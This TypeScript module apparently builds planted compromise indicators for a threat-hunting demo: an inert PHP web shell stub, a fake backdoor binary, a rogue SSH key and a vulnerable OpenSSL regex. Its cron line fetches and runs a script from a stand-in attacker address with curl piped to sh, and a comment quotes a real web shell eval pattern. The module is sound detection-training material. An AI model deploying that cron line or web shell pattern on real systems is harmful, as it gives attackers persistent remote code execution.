import { createHash } from 'node:crypto';

/**
 * The planted indicators of compromise. Everything here is inert: the "web shell" runs nothing
 * and the "backdoor" is not an executable, but the hunts find them exactly as they would the
 * real thing (by path, name, content and hash).
 */
export const IOCS = ['webshell', 'backdoor', 'cron', 'sshkey', 'openssl'] as const;
export type Ioc = (typeof IOCS)[number];

/** The attacker's server (TEST-NET-3, RFC 5737: never routed). */
export const C2_ADDRESS = '203.0.113.7';

export const WEBSHELL_PATH = '/var/www/html/uploads/.cache.php';
export const WEBSHELL_CONTENT = [
  '<?php',
  '// MIG demo scenario: an INERT stand-in for a PHP web shell; it executes nothing.',
  "// The real ones read like: @eval(base64_decode($_POST['c']));",
  'http_response_code(404);',
  '',
].join('\n');
export const WEBSHELL_SHA256 = sha256(WEBSHELL_CONTENT);

export const BACKDOOR_DIR = '/usr/bin';
export const BACKDOOR_NAME = '.sshd-helper';
export const BACKDOOR_PATH = `${BACKDOOR_DIR}/${BACKDOOR_NAME}`;
/** ELF magic, so `file` would call it a binary, followed by text saying what it is. */
export const BACKDOOR_CONTENT = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  Buffer.from('MIG demo scenario: inert stand-in for a backdoor dropped next to sshd\n'),
]);
export const BACKDOOR_SHA256 = sha256(BACKDOOR_CONTENT);

export const CRON_PATH = '/etc/cron.d/sysupdate';
export const CRON_LINE = `* * * * * root curl -s http://${C2_ADDRESS}/x | sh`;
export const CRON_CONTENT = [
  '# sysupdate',
  'SHELL=/bin/sh',
  'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin',
  CRON_LINE,
  '',
].join('\n');

export const ROGUE_KEY_COMMENT = 'backdoor@evil';
export const ROGUE_KEY = sshEd25519Key('mig-demo rogue key', ROGUE_KEY_COMMENT);
/** The one key every host legitimately trusts for root. */
export const ADMIN_KEY = sshEd25519Key('mig-demo admin key', 'admin@corp.example');

/** OpenSSL releases before FIXED_OPENSSL are vulnerable in this scenario. */
export const FIXED_OPENSSL = '3.0.13';
/** Matches a dpkg `Version:` line of openssl/libssl3 3.0.0 to 3.0.12, and no other package we list. */
export const VULNERABLE_OPENSSL_REGEX = '^Version: 3\\.0\\.([0-9]|1[0-2])-';

/** The access log line left by the attacker using the web shell. */
export function webshellAccessLine(day: string): string {
  return `${C2_ADDRESS} - - [${day}:03:14:07 +0000] "POST /uploads/.cache.php HTTP/1.1" 200 512 "-" "python-requests/2.31.0"`;
}

export function sha256(data: string | Uint8Array): string {
  return createHash('sha256').update(data).digest('hex');
}

/**
 * A well-formed OpenSSH ed25519 public key line whose 32 key bytes are derived from `seed`:
 * realistic on screen, fixed across runs, and nobody holds its private half.
 */
export function sshEd25519Key(seed: string, comment: string): string {
  const type = Buffer.from('ssh-ed25519');
  const key = createHash('sha256').update(seed).digest();
  const blob = Buffer.concat([u32(type.length), type, u32(key.length), key]);
  return `ssh-ed25519 ${blob.toString('base64')} ${comment}`;
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
}
